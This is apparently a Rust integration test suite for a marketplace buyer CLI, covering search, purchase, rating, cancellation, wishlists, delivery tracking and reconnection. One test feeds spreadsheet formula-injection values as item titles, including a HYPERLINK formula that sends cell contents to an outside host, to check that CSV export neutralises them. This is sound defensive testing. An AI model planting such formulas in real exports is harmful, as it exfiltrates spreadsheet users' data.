//! The `buyer` program as people run it: real processes against a real market.

#![expect(clippy::expect_used, reason = "a test that panics has failed")]

mod contexts;
mod joining;
mod output;
mod screens;
mod trusting;

use std::time::{Duration, Instant};

use serde_json::{Value, json};
use souk_certs::identity::Role;
use souk_proto::v1::{self, ItemDraft, track_ride_request::Message};
use souk_testkit::{
    actor::{Actor, draft, place, pounds},
    gate::Gate,
    local::{LocalMarket, LocalMarketOptions, StoreKind},
    terminal::{Running, Terminal},
};

const BUYER: &str = env!("CARGO_BIN_EXE_buyer");
/// The deadline for a new listing to become visible to other parties, generous for a busy machine.
const VISIBLE_WITHIN: Duration = Duration::from_secs(10);

/// A market with a seller who has listed ten lanterns.
struct Shop {
    market: LocalMarket,
    alice: Actor,
    lamp: i64,
}

impl Shop {
    async fn open() -> Self {
        let options = LocalMarketOptions { store: StoreKind::Memory, ..LocalMarketOptions::default() };
        let market = LocalMarket::open(options).await.expect("a market");
        let alice = Actor::enter(&market, Role::Seller, "Alice").await.expect("a seller");
        alice.register(None).await.expect("registered");
        let lamp = alice.sell(draft("Brass lantern", "home/light", 1_250, 10)).await.expect("listed").item_id;
        Self { market, alice, lamp }
    }

    async fn terminal(&self) -> Terminal {
        Terminal::of(BUYER, &self.market.identity(Role::Buyer, "bob").await.expect("a certificate"))
    }

    async fn bob(&self) -> Terminal {
        let bob = self.terminal().await;
        let ran = bob.run(&["register", "Bob"]).await;
        assert_eq!(ran.code, 0, "{ran:?}");
        bob
    }

    fn id(&self) -> String {
        self.lamp.to_string()
    }
}

/// Searches until something is found, because listings of others become visible with a delay.
async fn search(bob: &Terminal, arguments: &[&str]) -> Vec<Value> {
    let begin = Instant::now();
    loop {
        let found = bob.run(&[&["search"], arguments, &["--output", "json"]].concat()).await.rows();
        if !found.is_empty() {
            return found;
        }
        assert!(begin.elapsed() < VISIBLE_WITHIN, "{arguments:?} finds nothing");
    }
}

/// Returns the next line of a program's output, parsed as JSON.
async fn next(running: &mut Running) -> Value {
    serde_json::from_str(&running.line().await).expect("JSON")
}

/// Sends positions of a ride, each ten seconds after the one before it.
async fn send_positions(alice: &Actor, ride_id: &str, count: i64) {
    let now = souk_certs::clock::now().unix_timestamp();
    let position = |n: i64| v1::TrackRideRequest {
        message: Some(Message::Position(v1::TrackedPosition {
            location: place(0.01 * n as f64),
            time: Some(souk_proto::Timestamp { seconds: now - 100 + 10 * n, nanos: 0 }),
        })),
    };
    let first = v1::TrackRideRequest { message: Some(Message::RideId(ride_id.to_owned())) };
    let messages: Vec<_> = [first].into_iter().chain((1..=count).map(position)).collect();
    alice.connection.rides().track_ride(tokio_stream::iter(messages)).await.expect("tracked");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wrong_command_line_is_a_usage_error_that_says_what_is_meant() {
    let bare = Terminal::bare(BUYER);
    for (arguments, word) in [
        (&["--no-such-flag"][..], "--no-such-flag"),
        (&["buys", "1"], "buy"),
        (&["buy"], "ITEM"),
        (&["buy", "one"], "one"),
        (&["buy", "1", "--quantity", "9223372036854775808"], "9223372036854775808"),
        (&["wish", "add"], "ITEM"),
        (&["search", "--order", "chaos"], "chaos"),
        (&["search", "--min-rating", "many"], "many"),
        (&["orders"], "--cert"),
    ] {
        bare.run(arguments).await.assert_fails(2, &[word]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn formulas_are_texts_in_a_list_for_spreadsheets() {
    let shop = Shop::open().await;
    let bob = shop.bob().await;
    let formulas = ["=HYPERLINK(\"http://example.test/?x=\"&A1,\"click\")", "+CALC", "@SUM(1+1)*cmd"];
    for formula in formulas {
        shop.alice.sell(draft(formula, "formulas", 100, 1)).await.expect("listed");
    }
    let begin = Instant::now();
    while search(&bob, &["--category", "formulas"]).await.len() < formulas.len() {
        assert!(begin.elapsed() < VISIBLE_WITHIN, "not all are found");
    }
    let list = bob.run(&["search", "--category", "formulas", "--output", "csv"]).await.out;
    for formula in formulas {
        let cell = formula.replace('"', "\"\"");
        assert!(list.contains(&format!("'{cell}")), "{list}");
        assert!(!list.contains(&format!(",{cell}")) && !list.contains(&format!(",\"{cell}")), "{list}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_buyers_day() {
    let shop = Shop::open().await;
    let (bob, id) = (shop.bob().await, shop.id());
    for arguments in
        [&["lantern"][..], &["lantren"], &["--category", "home"], &["bras", "--category", "home/light"]]
    {
        assert_eq!(search(&bob, arguments).await[0]["item_id"], json!(shop.lamp), "{arguments:?}");
    }
    let nothing = bob.run(&["search", "lantern", "--category", "books"]).await;
    assert_eq!((nothing.code, nothing.out.as_str()), (0, ""), "{nothing:?}");

    bob.run(&["rate", &id, "5"]).await.assert_fails(5, &["buy the item before"]);
    let order =
        bob.run(&["buy", &id, "--quantity", "2", "--expect-price", "12.50 GBP", "--output", "json"]).await;
    let order = order.json();
    assert_eq!(order["total_price"]["amount_minor"], json!(2_500));
    let order = order["order_id"].to_string();
    assert_eq!(bob.run(&["rate", &id, "5"]).await.code, 0);
    bob.run(&["rate", &id, "4"]).await.assert_fails(5, &["--update"]);
    assert_eq!(bob.run(&["rate", &id, "4", "--update"]).await.code, 0);

    let shown = bob.run(&["show", &id, "--output", "json"]).await.json();
    assert_eq!((&shown["quantity"], &shown["rating"]["count"]), (&json!(8), &json!(1)), "{shown}");
    assert_eq!(bob.run(&["cancel", &order]).await.code, 0);
    bob.run(&["cancel", &order]).await.assert_fails(5, &["cancel"]);
    let orders = bob.run(&["orders", "--output", "ndjson"]).await;
    assert!(orders.out.lines().count() == 1 && orders.out.contains("cancelled"), "{orders:?}");
    let shown = bob.run(&["show", &id, "--output", "json"]).await.json();
    assert_eq!(shown["quantity"], json!(10), "the units went back");
    assert_eq!(shown["rating"], json!(null), "and the rating is withdrawn");

    bob.run(&["place", "lamp"]).await.assert_fails(2, &["7x2"]);
    bob.run(&["place", &id, &format!("{id}x10")]).await.assert_fails(5, &["10"]);
    let placed = bob.run(&["place", &id, &format!("{id}x3"), "--output", "json"]).await.rows();
    assert_eq!((placed.len(), &placed[0]["quantity"]), (1, &json!(4)), "{placed:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_can_not_be_is_refused_and_nothing_is_half_done() {
    let shop = Shop::open().await;
    let stranger = shop.terminal().await;
    stranger.run(&["orders"]).await.assert_fails(4, &["register"]);
    let (bob, id) = (shop.bob().await, shop.id());
    for (arguments, code, word) in [
        (&["buy", &id, "--quantity", "0"][..], 2, "quantity"),
        (&["buy", &id, "--quantity", "-1"], 2, "quantity"),
        (&["buy", &id, "--quantity", "9223372036854775807"], 2, "quantity"),
        (&["buy", &id, "--quantity", "11"], 5, "10"),
        (&["buy", &id, "--expect-price", "9.99 GBP"], 5, "12.50"),
        (&["buy", "999"], 3, "999"),
        (&["show", "999"], 3, "999"),
        (&["order", "999"], 3, "999"),
        (&["cancel", "999"], 3, "999"),
        (&["wish", "add", "999"], 3, "999"),
        (&["wish", "rm", &id], 3, "wish"),
        (&["rate", &id, "0"], 2, "stars"),
        (&["rate", &id, "6"], 2, "stars"),
        (&["rate", &id, "-1"], 2, "stars"),
        (&["rate", "999", "5"], 3, "999"),
        (&["buy", &id, "--request-id", "mine"], 2, "request id"),
        (&["search", "--category", "Home Light!"], 2, "category"),
        (&["search", "--seller", "alice"], 2, "seller"),
    ] {
        bob.run(arguments).await.assert_fails(code, &[word]);
    }
    let nothing = json!({"orders": [], "next_page_token": ""});
    assert_eq!(bob.run(&["orders", "--output", "json"]).await.json(), nothing);
    assert_eq!(shop.alice.item(shop.lamp).await.expect("found").quantity, 10);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_repeated_request_id_buys_once() {
    let shop = Shop::open().await;
    let (bob, id) = (shop.bob().await, shop.id());
    let request = "01890a5d-ac96-774b-bcce-b302099a8057";
    let buy = ["buy", &id, "--quantity", "2", "--request-id", request, "--output", "json"];
    let (first, again) = (bob.run(&buy).await.json(), bob.run(&buy).await.json());
    assert_eq!(first["order_id"], again["order_id"]);
    assert_eq!(shop.alice.item(shop.lamp).await.expect("found").quantity, 8);
    bob.run(&["buy", &id, "--quantity", "3", "--request-id", request]).await.assert_fails(2, &["request"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wish_brings_news_of_the_item_also_to_who_was_away() {
    let shop = Shop::open().await;
    let (bob, id) = (shop.bob().await, shop.id());
    assert_eq!(bob.run(&["wish", "add", &id]).await.code, 0);
    assert_eq!(bob.run(&["wish", "add", &id]).await.code, 0, "twice is once");
    assert_eq!(bob.run(&["wish", "list", "--output", "json"]).await.rows().len(), 1);

    // No client is listening yet.
    let cheaper = ItemDraft { unit_price: pounds(999), ..ItemDraft::default() };
    shop.alice.update(shop.lamp, cheaper).await.expect("updated");
    let mut listening = bob.start(&["listen"]);
    let sentence = listening.line().await;
    assert!(sentence.contains("Brass lantern") && sentence.contains("9.99 GBP"), "{sentence}");
    assert_eq!(listening.interrupt().await, 0);

    // What was shown once is not shown again.
    let mut listening = bob.start(&["listen", "--output", "ndjson"]);
    shop.alice.delete(shop.lamp).await.expect("deleted");
    let event = next(&mut listening).await;
    assert_eq!(event["kind"], json!("item_withdrawn"), "{event}");
    assert_eq!(listening.interrupt().await, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_goes_through_the_shell() {
    let shop = Shop::open().await;
    let bob = shop.terminal().await;
    let script = format!(
        "register Bob\nbuy {id} --quantity 3\nrate {id} 5\norders --output ndjson\nquit\n",
        id = shop.lamp
    );
    let ran = bob.type_in(&["shell"], &script).await;
    assert_eq!(ran.code, 0, "{ran:?}");
    let last: Value = serde_json::from_str(ran.out.lines().last().expect("a line")).expect("JSON");
    assert_eq!(last["quantity"], json!(3));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_order_is_watched_until_it_is_there() {
    let shop = Shop::open().await;
    let bob = shop.bob().await;
    let order_id = bob.run(&["buy", &shop.id(), "--output", "json"]).await.json()["order_id"].as_i64();
    let order_id = order_id.expect("an id");
    let order = order_id.to_string();
    bob.run(&["track", &order]).await.assert_fails(5, &["on no ride"]);
    bob.run(&["track", "999"]).await.assert_fails(3, &["999"]);

    let ride_id = shop.alice.start_ride(order_id).await.expect("started").ride_id;
    let mut watching = bob.start(&["track", &order, "--output", "ndjson"]);
    send_positions(&shop.alice, &ride_id, 3).await;
    let mut seen = 0;
    while seen < 3 {
        let line = next(&mut watching).await;
        assert!(line["sequence"].as_i64() > Some(seen), "{line}");
        seen = line["sequence"].as_i64().expect("a number");
    }
    shop.alice.seller().end_ride(ride_id).await.expect("ended");
    assert_eq!(watching.end().await, 0);
    let after = bob.run(&["track", &order]).await;
    assert!(after.code == 0 && after.out.contains("to go") && after.err.contains("arrived"), "{after:?}");
    let shown = bob.run(&["order", &order, "--output", "json"]).await.json();
    assert_eq!(shown["status"], json!("delivered"));
}

/// More failed attempts than after which a single call gives up.
const TURNED_AWAY: usize = 6;

#[tokio::test(flavor = "multi_thread")]
async fn a_watch_outlives_an_outage_and_says_so_once() {
    let shop = Shop::open().await;
    let mut gate = Gate::open(shop.market.address()).await;
    let mut bob = shop.bob().await;
    search(&bob, &["lantern"]).await;
    bob.set("SOUK_MARKET", gate.address.to_string());
    let mut watching = bob.start_with_errors(&["watch", "lantern", "--output", "ndjson"]);
    watching.line().await;
    assert!(watching.error_line().await.contains("changes follow"));
    gate.shut().await;
    gate.reopen_after(TURNED_AWAY).await;
    // Everything comes again, after one line for each end of the outage.
    let line = next(&mut watching).await;
    assert_eq!(line["kind"], json!("match"), "{line}");
    let (cut, back) = (watching.error_line().await, watching.error_line().await);
    assert!(cut.starts_with("disconnected (") && back == "reconnected", "{cut}\n{back}");
    assert!(watching.error_line().await.contains("changes follow"));
    assert_eq!(watching.interrupt().await, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_watched_search_reports_price_cuts_and_sold_out_items() {
    let shop = Shop::open().await;
    let bob = shop.bob().await;
    search(&bob, &["lantern"]).await;
    let mut watching = bob.start(&["watch", "lantern", "--max-price", "20 GBP", "--output", "ndjson"]);
    let line = next(&mut watching).await;
    assert_eq!((&line["kind"], &line["item"]["item_id"]), (&json!("match"), &json!(shop.lamp)));
    let cheaper = ItemDraft { unit_price: pounds(999), ..ItemDraft::default() };
    shop.alice.update(shop.lamp, cheaper).await.expect("changed");
    let line = next(&mut watching).await;
    assert_eq!(line["kind"], json!("price_down"), "{line}");
    shop.alice.delete(shop.lamp).await.expect("deleted");
    let line = next(&mut watching).await;
    assert_eq!(line["kind"], json!("gone"), "{line}");
    assert_eq!(watching.interrupt().await, 0);
}

/// A description is another party's text, and a card's fields are the market's.
#[tokio::test(flavor = "multi_thread")]
async fn a_description_can_not_pass_for_a_field() {
    let shop = Shop::open().await;
    let bob = shop.bob().await;
    let text = "A vase.\n    version  99\n     seller  Bob\u{200b}";
    let vase = ItemDraft { description: Some(text.to_owned()), ..draft("Vase", "home", 900, 1) };
    let vase = shop.alice.sell(vase).await.expect("listed").item_id;
    let shown = bob.run(&["show", &vase.to_string()]).await.out;
    let places: Vec<_> = shown.lines().filter_map(|line| line.find("version")).collect();
    assert!(places.len() == 2 && places[0] < "description".len() && places[1] > places[0] + 9, "{shown}");
    assert!(shown.contains("Bob\\u{200b}"), "{shown}");
}
